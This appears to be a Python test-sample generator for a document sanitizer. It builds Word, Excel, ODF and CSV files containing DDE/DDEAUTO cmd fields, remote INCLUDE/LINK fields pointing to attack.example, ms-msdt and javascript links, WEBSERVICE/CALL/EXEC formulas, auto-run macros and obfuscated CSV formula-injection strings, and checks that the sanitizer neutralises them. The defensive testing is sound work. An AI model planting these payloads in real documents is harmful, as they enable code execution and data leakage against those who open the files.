"""Fields and formulas that fetch or run: DDE, INCLUDE, LINK, templates; split over runs, revisions and nested fields; CSV and spreadsheet formulas."""
from common import *

def run(inner):
    return f'<w:r>{inner}</w:r>'

CHAR = {kind: run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ('begin', 'separate', 'end')}

def field(*instructions, result='結果', tag='instrText'):
    """each instruction text in a run of its own"""
    texts = ''.join(run(f'<w:{tag} xml:space="preserve">{i}</w:{tag}>') for i in instructions)
    return f'<w:p>{CHAR["begin"]}{texts}{CHAR["separate"]}{run(f"<w:t>{result}</w:t>")}{CHAR["end"]}</w:p>'

def split(text, size):
    return [text[i:i + size] for i in range(0, len(text), size)]

COMMANDS = {'dde': ' DDE cmd "/c {m}" ', 'ddeauto': ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {m}" ', 'lower': ' ddeauto cmd "{m}" ', 'quoted': ' "DDEAUTO" cmd "{m}" ', 'includetext': ' INCLUDETEXT "http://attack.example/{m}" ', 'includepicture': ' INCLUDEPICTURE "\\\\\\\\attack.example\\\\{m}.png" \\d ', 'import': ' IMPORT "c:/{m}.gif" ',
            'link': ' LINK Excel.Sheet.8 "\\\\\\\\attack.example\\\\{m}.xls" "A1" \\a ', 'include': ' INCLUDE {m} ', 'rd': ' RD "http://attack.example/{m}" ', 'database': ' DATABASE \\d "{m}" \\c "DSN=a" ', 'macrobutton': ' MACROBUTTON {m} text ', 'gotobutton-file': ' HYPERLINK "file://attack.example/{m}" ', 'hyperlink-script': ' HYPERLINK "javascript:{m}" ', 'hyperlink-msdt': ' HYPERLINK "ms-msdt:/id {m}" ',
            'print': ' PRINT "{m}" ', 'embed': ' EMBED Package {m} ', 'autotext': ' AUTOTEXT {m} ', 'private': ' PRIVATE {m} ', 'addin': ' ADDIN {m} ', 'html': ' HTMLCONTROL {m} '}

def word():
    for name, text in COMMANDS.items():
        marker = mark('field-' + name); text = text.replace('{m}', marker).replace('&', '&amp;').replace('"', '&quot;')
        notes = ['dde|fetching_field' if name == 'quoted' else 'dde' if 'dde' in name or name == 'lower' else 'fetching_field|dde|unsafe_link|external_link|program_action|macro_link|data_connection']
        plain = text.replace('&quot;', '"')
        runs = [p.replace('"', '&quot;') for p in split(plain, 2)]
        yield f'{name}.docx', marker, docx(field(text)), notes
        yield f'{name}-split.docx', marker, docx(field(*runs)), notes
        yield f'{name}-simple.docx', marker, docx(f'<w:p><w:fldSimple w:instr="{text}">{run("<w:t>a</w:t>")}</w:fldSimple></w:p>'), notes
        yield f'{name}-deleted.docx', marker, docx(f'<w:p>{CHAR["begin"]}<w:del w:id="1" w:author="a">{run(f"<w:delInstrText>{text}</w:delInstrText>")}</w:del>{CHAR["separate"]}{run("<w:t>a</w:t>")}{CHAR["end"]}</w:p>'), notes
        yield f'{name}-revised.docx', marker, docx(f'<w:p>{CHAR["begin"]}<w:ins w:id="1" w:author="a">{run(f"<w:instrText>{runs[0]}{runs[1]}</w:instrText>")}</w:ins><w:moveTo w:id="2" w:author="a">{"".join(run(f"<w:instrText>{r}</w:instrText>") for r in runs[2:])}</w:moveTo>{CHAR["separate"]}{CHAR["end"]}</w:p>'), notes
        yield f'{name}-paragraphs.docx', marker, docx(f'<w:p>{CHAR["begin"]}{run(f"<w:instrText>{runs[0]}</w:instrText>")}</w:p>' + ''.join(f'<w:p>{run(f"<w:instrText>{r}</w:instrText>")}</w:p>' for r in runs[1:]) + f'<w:p>{CHAR["separate"]}{CHAR["end"]}</w:p>'), notes
        yield f'{name}-wrapped.docx', marker, docx(f'<w:p>{CHAR["begin"]}<w:sdt><w:sdtContent>{run(f"<w:instrText>{runs[0]}</w:instrText>")}</w:sdtContent></w:sdt><w:hyperlink w:anchor="a">{"".join(run(f"<w:instrText>{r}</w:instrText>") for r in runs[1:])}</w:hyperlink>{CHAR["separate"]}{CHAR["end"]}</w:p>'), notes
        yield f'{name}-unended.docx', marker, docx(f'<w:p>{CHAR["begin"]}{run(f"<w:instrText>{text}</w:instrText>")}</w:p>'), []
        yield f'{name}-styled.docx', marker, docx(f'<w:p>{CHAR["begin"]}' + ''.join(run(f'<w:rPr><w:b w:val="{i % 2}"/></w:rPr><w:instrText xml:space="preserve">{r}</w:instrText>') for i, r in enumerate(runs)) + f'{CHAR["separate"]}{CHAR["end"]}</w:p>'), notes
    # Nested: the inner field makes the outer one's name.
    marker = mark('field-nested')
    quote = lambda code: f'{CHAR["begin"]}{run(f"<w:instrText> QUOTE {code} </w:instrText>")}{CHAR["separate"]}{run("<w:t>D</w:t>")}{CHAR["end"]}'
    codes = ' '.join(str(ord(c)) for c in 'DDEAUTO')
    yield 'quote.docx', marker, docx(f'<w:p>{CHAR["begin"]}{quote(codes)}{run(f"<w:instrText> cmd &quot;/c {marker}&quot; </w:instrText>")}{CHAR["separate"]}{CHAR["end"]}</w:p>'), []
    yield 'quote-letters.docx', marker, docx(f'<w:p>{CHAR["begin"]}{"".join(quote(ord(c)) for c in "DDEAUTO")}{run(f"<w:instrText> {marker} </w:instrText>")}{CHAR["separate"]}{CHAR["end"]}</w:p>'), []
    yield 'if.docx', marker, docx(f'<w:p>{CHAR["begin"]}{run("<w:instrText> IF 1=1 </w:instrText>")}{CHAR["begin"]}{run(f"<w:instrText>DDEAUTO {marker}</w:instrText>")}{CHAR["end"]}{CHAR["end"]}</w:p>'), ['dde']
    yield 'set.docx', marker, docx(field(f' SET a &quot;{marker}&quot; ') + field(' DDEAUTO ', ' REF a ')), ['dde']
    yield 'result.docx', marker, docx(f'<w:p>{CHAR["begin"]}{run("<w:instrText> PAGE </w:instrText>")}{CHAR["separate"]}{CHAR["begin"]}{run(f"<w:instrText>DDE {marker}</w:instrText>")}{CHAR["end"]}{CHAR["end"]}</w:p>'), ['dde']
    yield 'data.docx', marker, docx(f'<w:p><w:r><w:fldChar w:fldCharType="begin"><w:fldData>{marker}</w:fldData></w:fldChar></w:r>{run("<w:instrText> ADDIN </w:instrText>")}{CHAR["end"]}</w:p>'), []
    yield 'choice.docx', marker, docx(f'<w:p xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:z="urn:z">{CHAR["begin"]}<mc:AlternateContent><mc:Choice Requires="z">{run("<w:instrText> PAGE </w:instrText>")}</mc:Choice><mc:Fallback>{run(f"<w:instrText>DDE {marker}</w:instrText>")}</mc:Fallback></mc:AlternateContent>{CHAR["separate"]}{CHAR["end"]}</w:p>'), []

FORMULAS = {'dde': "cmd|'/c {m}'!A1", 'dde-quoted': "'cmd'|'/c {m}'!'A1'", 'webservice': 'WEBSERVICE("http://attack.example/{m}")', 'webservice-prefix': '_xlfn.WEBSERVICE("http://attack.example/{m}")', 'case': '_XLFN.webSERVICE("http://attack.example/{m}")', 'hyperlink': 'HYPERLINK("file://attack.example/{m}","a")', 'hyperlink-built': 'HYPERLINK("fi"&"le:"&"//{m}","a")', 'external': "'[{m}.xls]S'!A1", 'external-path': "'\\\\attack.example\\[{m}]S'!A1", 'external-index': '[1]S!A1+LEN("{m}")',
            'call': 'CALL("kernel32","{m}","J")', 'register': 'REGISTER("a","{m}")', 'register-id': 'REGISTER.ID("a","{m}")', 'exec': 'EXEC("{m}")', 'rtd': 'RTD("{m}",,"a")', 'sql': 'SQL.REQUEST("{m}")', 'image': '_xlfn.IMAGE("http://attack.example/{m}")', 'cube': 'CUBEVALUE("{m}","a")', 'stock': '_xlfn.STOCKHISTORY("{m}")', 'evaluate': 'EVALUATE("{m}")', 'udf': "_xludf.{m}(1)", 'py': '_xlfn._xlws.PY("{m}")', 'nested': 'IF(TRUE,SUM(WEBSERVICE("{m}")),1)', 'space': 'WEBSERVICE ("{m}")', 'name-dde': "IFERROR(cmd|'{m}'!a,1)"}

def sheets():
    escape = lambda t: t.replace('&', '&amp;').replace('"', '&quot;').replace("'", '&#39;')
    for name, text in FORMULAS.items():
        marker = mark('formula-' + name); text = escape(text.replace('{m}', marker))
        cell = lambda inner, row=1: f'<row r="{row}"><c r="A{row}">{inner}<v>1</v></c></row>'
        yield f'{name}.xlsx', marker, xlsx(cell(f'<f>{text}</f>'))
        yield f'{name}-shared.xlsx', marker, xlsx(cell(f'<f t="shared" ref="A1:A2" si="0">{text}</f>') + cell('<f t="shared" si="0"/>', 2))
        yield f'{name}-array.xlsx', marker, xlsx(cell(f'<f t="array" ref="A1">{text}</f>'))
        yield f'{name}-name.xlsx', marker, xlsx(cell('<f>a</f>'), book=f'<definedNames><definedName name="a">{text}</definedName><definedName name="_xlnm.Auto_Open" hidden="1">{text}</definedName></definedNames>')
        yield f'{name}-rule.xlsx', marker, xlsx(cell(''), sheet_end=f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{text}</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>{text}</formula1></dataValidation></dataValidations>')
        yield f'{name}-cdata.xlsx', marker, xlsx(cell(f'<f><![CDATA[{text}]]></f>')) if '&' not in text else xlsx(cell(f'<f>{text[:1]}<!-- a -->{text[1:]}</f>'))
        if name in ('dde', 'external-path', 'webservice', 'external'):
            other = {'dde': f"of:=DDE(&quot;cmd&quot;;&quot;{marker}&quot;;&quot;a&quot;)", 'external-path': f"of:=['file://attack.example/{marker}'#$S.A1]", 'webservice': f'of:=WEBSERVICE(&quot;http://a/{marker}&quot;)', 'external': f"msoxl:='[{marker}]S'!A1"}[name]
            yield f'{name}.ods', marker, odf('ods', f'<table:table table:name="a"><table:table-row><table:table-cell table:formula="{other}" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>')

def odf_fields():
    for name, inner in (('dde', '<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="cmd" office:dde-topic="{m}" office:dde-item="b" office:automatic-update="true"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="a">x</text:dde-connection></text:p>'),
                        ('section-source', '<text:section text:name="a"><text:section-source xlink:href="http://attack.example/{m}" xlink:show="embed"/><text:p>a</text:p></text:section>'), ('section-dde', '<text:section text:name="a"><office:dde-source office:dde-application="cmd" office:dde-topic="{m}" office:dde-item="b"/><text:p>a</text:p></text:section>'),
                        ('execute-macro', '<text:p><text:execute-macro text:name="{m}">a</text:execute-macro></text:p>'), ('script', '<text:p><text:script script:language="JavaScript">{m}</text:script></text:p>'), ('database', '<text:p><text:database-display text:table-name="{m}" text:column-name="a">a</text:database-display></text:p>'), ('link', '<text:p><text:a xlink:href="vnd.sun.star.script:{m}?language=Basic">a</text:a></text:p>'),
                        ('macro-link', '<text:p><text:a xlink:href="macro:///{m}">a</text:a></text:p>'), ('file-link', '<text:p><text:a xlink:href="file:///c:/{m}">a</text:a></text:p>'), ('picture', '<text:p><draw:frame><draw:image xlink:href="http://attack.example/{m}.png"/></draw:frame></text:p>'), ('unc-picture', '<text:p><draw:frame><draw:image xlink:href="//attack.example/{m}.png"/></draw:frame></text:p>'), ('plugin', '<text:p><draw:frame><draw:plugin xlink:href="{m}"/></draw:frame></text:p>'),
                        ('object', '<text:p><draw:frame><draw:object xlink:href="http://attack.example/{m}"/></draw:frame></text:p>'), ('frame', '<text:p><draw:frame><draw:floating-frame xlink:href="http://attack.example/{m}"/></draw:frame></text:p>'), ('events', '<text:p><draw:frame><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:{m}"/></office:event-listeners></draw:frame></text:p>'), ('form', '<office:forms><form:form xlink:href="http://attack.example/{m}"><form:button form:button-type="url" xlink:href="{m}"/></form:form></office:forms>')):
        marker = mark('odf-' + name)
        yield f'{name}.odt', marker, odf('odt', inner.replace('{m}', marker))
    marker = mark('odf-macro')
    yield 'basic.odt', marker, odf('odt', '<text:p/>', parts={'Basic/script-lc.xml': '<a/>', 'Basic/Standard/Module1.xml': f'<a>{marker}</a>', 'Scripts/python/a.py': marker})
    yield 'scripts.odt', marker, odf('odt', '<text:p/>', before=f'<office:scripts><office:script script:language="ooo:Basic">{marker}</office:script><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:{marker}"/></office:event-listeners></office:scripts>')

CSV = ['=cmd|\' /C {m}\'!A0', '+cmd|\'{m}\'!A1', '-2+3+cmd|\'{m}\'!A1', '@SUM(1+9)*cmd|\'{m}\'!A0', '\t=cmd|\'{m}\'!A0', '  =cmd|\'{m}\'!A0', '＝cmd|{m}', '＋{m}', '－{m}a(', '＠{m}', '"=cmd|\'{m}\'!A0"', '"\n=cmd|{m}"', "=HYPERLINK(\"\"http://a/{m}\"\")", '%0A=cmd|{m}', '\u00a0=cmd|{m}', '\ufeff=cmd|{m}', '\u200b=cmd|{m}', '\r=cmd|{m}', '|={m}', ';=cmd|{m};', '=WEBSERVICE("http://a/{m}")', '="a"&cmd|\'{m}\'!A0', 'DDE ("cmd";"/C {m}";"__DdeLink_60_870516294")', '-cmd|{m}']

def neutral(out, report):
    import csv, io
    text = out.decode('utf-8-sig') if not out.startswith(b'\xff\xfe') else out.decode('utf-16')
    for delimiter in ',' if '"\n' in text or '"\r\n' in text else ',;\t':   # a reader that takes another delimiter breaks quoted lines
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                start = cell.lstrip(' \t\r\n\u00a0\ufeff\u200b\u3000')
                assert not start.startswith(('=', '@', '＝')), f'{cell!r} is still a formula'
                assert not start.startswith(('+', '-', '＋', '－', '＠')) or not ('|' in start or '(' in start), f'{cell!r} is still a formula'

def samples():
    for name, marker, data, notes in word():
        yield either(name, data, 'ooxml_bad_xml', 'feature_unsupported', marker=marker, notes=notes)
    for name, marker, data in sheets():
        yield either(name, data, 'ooxml_bad_xml', marker=marker)
    for name, marker, data in odf_fields():
        yield either(name, data, 'markup_bad', marker=marker)
    for number, text in enumerate(CSV):
        text = text.replace('{m}', mark('csv'))
        yield clean(f'a{number}.csv', f'番号,内容\r\n1,{text}\r\n{text},2\r\n'.encode(), check=neutral)
        yield clean(f'b{number}.csv', ('\ufeff' + f'番号\t内容\r\n{text}\t2\r\n').encode('utf-16-le'), check=None)
        yield clean(f'c{number}.tsv', f'番号\t内容\r\n{text}\t2\r\n'.encode(), check=neutral)
